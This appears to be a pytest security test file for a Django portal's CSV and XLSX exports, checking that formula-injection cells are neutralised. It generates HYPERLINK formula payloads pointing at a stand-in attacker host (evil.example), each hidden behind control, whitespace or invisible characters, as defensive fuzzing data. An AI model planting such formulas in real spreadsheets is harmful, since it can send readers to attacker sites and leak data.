"""No spreadsheet the portal writes holds a live formula (issue 15, break 11).

A cell that a spreadsheet program could run (=, +, -, @, also behind invisible
characters) must reach the file behind an apostrophe. Once the XLSX writer
neutralised cells *before* stripping the control characters XML cannot hold, so
"\\x01=HYPERLINK(...)" became a live formula. Here every export in the project
(found in the source: every caller of gds_portal.exports) is fed every C0 control
character, DEL, every Unicode whitespace and a few invisible format characters in
front of each trigger; the produced CSV is parsed with `csv`, the XLSX with openpyxl.
"""

import ast
import csv
import io
import sys
import unicodedata

import openpyxl
import pytest
from django.urls import reverse

from crrg.enums import QuestionKind
from crrg.models import Answer, Question, Response
from gds_portal.exports import csv_response, xlsx_bytes
from tests.factories.crrg import QuestionnaireFactory
from tests.factories.meetings import MeetingFactory, SortingCategoryFactory, author, make_abstract
from tests.factories.webinars import SpeakerNominationFactory
from tests.security.test_noqa import ROOT, python_files

pytestmark = pytest.mark.django_db

TRIGGERS = ["=", "+", "-", "@"]
FORMAT_CHARACTERS = ["\u200b", "\u200e", "\u200f", "\u202e", "\u2060", "\ufeff"]
PREFIXES = sorted(
    {chr(c) for c in range(0x20)}
    | {"\x7f"}
    | {chr(c) for c in range(sys.maxunicode + 1) if chr(c).isspace()}
    | {chr(c) for c in range(0x3001) if unicodedata.category(chr(c)) in {"Zs", "Zl", "Zp"}}
    | set(FORMAT_CHARACTERS)
    | {"\x01 \x02", " \t\x0b"}
)
PAYLOADS = [
    f'{p}{t}HYPERLINK("http://evil.example/?{ord(p[0]):x}","x")' for p in PREFIXES for t in TRIGGERS
]

# PostgreSQL text cannot hold NUL, so stored data never carries one (the writer test does).
STORED = [payload for payload in PAYLOADS if "\0" not in payload]


def _runnable(cell) -> bool:
    """Whether a spreadsheet could take the cell as a formula."""
    if not isinstance(cell, str) or cell.startswith("'"):
        return False
    visible = cell.lstrip("".join(ch for ch in cell if _invisible(ch)))
    return cell.startswith(("\t", "\r", "\n")) or visible.startswith(tuple(TRIGGERS))


def _invisible(ch: str) -> bool:
    return ch.isspace() or unicodedata.category(ch)[0] in "CZ"


def _csv_cells(response) -> list[str]:
    text = response.content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(content: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return [c.value for c in cells]


def _assert_inert(cells: list, *, expected: int) -> None:
    hostile = [cell for cell in cells if isinstance(cell, str) and "evil.example" in cell]
    assert len(hostile) >= expected  # every payload arrived (else the test proves nothing)
    assert [cell for cell in cells if _runnable(cell)] == []


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_writer_neutralises_every_prefix_in_csv_and_xlsx(trigger):
    payloads = [p for p in PAYLOADS if p.lstrip("".join(PREFIXES)).startswith(trigger)]
    rows = [[payload, payload] for payload in payloads]
    _assert_inert(_csv_cells(csv_response("f", payloads[:3], rows)), expected=2 * len(rows))
    _assert_inert(_xlsx_cells(xlsx_bytes("f", payloads[:3], rows)), expected=2 * len(rows))


def test_control_character_before_formula_stays_text_in_xlsx():
    # The reported attack: stripped for XML, it used to leave a bare formula.
    cells = _xlsx_cells(xlsx_bytes("f", ["A"], [['\x01=HYPERLINK("http://evil.example")']]))
    assert cells == ["A", '\'=HYPERLINK("http://evil.example")']


def _crrg_export(personas, client_for) -> list[list]:
    questionnaire = QuestionnaireFactory(slug="fuzz", grants_membership=True)
    questions = Question.objects.bulk_create(
        Question(questionnaire=questionnaire, order=n, text=payload, kind=QuestionKind.SHORT_TEXT)
        for n, payload in enumerate(STORED)
    )
    member = personas.member
    member.full_name, member.affiliation = STORED[0], STORED[1]
    member.save()
    response = Response.objects.create(questionnaire=questionnaire, user=member)
    Answer.objects.bulk_create(
        Answer(response=response, question=q, text=q.text) for q in questions
    )
    client = client_for(personas.crrg_coordinator)
    base = "/crrg/coordinators/questionnaires/fuzz/export"
    return [_csv_cells(client.get(f"{base}.csv")), _xlsx_cells(client.get(f"{base}.xlsx").content)]


def _meetings_export(personas, client_for) -> list[list]:
    meeting = MeetingFactory(slug="fuzz", title_max_length=500, body_max_length=5000)
    category = SortingCategoryFactory(meeting=meeting, title=STORED[0])
    for n in range(0, len(STORED), 5):
        title, body, keywords, funding, name = (STORED * 2)[n : n + 5]
        make_abstract(
            submitter=personas.member,
            category=category,
            title=title,
            body=body,
            keywords=keywords,
            funding=funding,
            authors=[author(name, "a@example.org", affiliations=[title])],
        )
    client = client_for(personas.program_committee)
    return [
        _csv_cells(client.get(reverse("meetings:export", args=["fuzz", "csv"]))),
        _xlsx_cells(client.get(reverse("meetings:export", args=["fuzz", "xlsx"])).content),
    ]


def _webinars_export(personas, client_for) -> list[list]:
    nominations = [
        SpeakerNominationFactory(nominee_name=payload, affiliation=payload, proposed_title=payload)
        for payload in STORED
    ]
    response = client_for(personas.webinar_committee).post(
        "/admin/webinars/speakernomination/",
        {"action": "export_csv", "_selected_action": [n.pk for n in nominations]},
    )
    return [_csv_cells(response)]


# Every module that writes a spreadsheet, and how to fill and fetch its exports.
EXPORTS = {
    "crrg/views/results.py": _crrg_export,
    "meetings/views/committee.py": _meetings_export,
    "webinars/admin.py": _webinars_export,
}


@pytest.mark.parametrize("module", sorted(EXPORTS))
def test_every_export_view_writes_no_formula(module, personas, client_for):
    files = EXPORTS[module](personas, client_for)
    for cells in files:
        _assert_inert(cells, expected=len(STORED))


def test_every_export_in_the_source_is_fuzzed():
    writers = {"csv_response", "xlsx_response", "xlsx_bytes"}
    callers = set()
    for path in python_files():
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith(("tests/", "gds_portal/exports.py")):
            continue
        tree = ast.parse(path.read_text())
        for node in ast.walk(tree):
            # Any mention, not only calls: a view may pick the writer first.
            if getattr(node, "id", None) in writers or getattr(node, "attr", None) in writers:
                callers.add(relative)
    assert callers == set(EXPORTS), "add the new export to EXPORTS above"
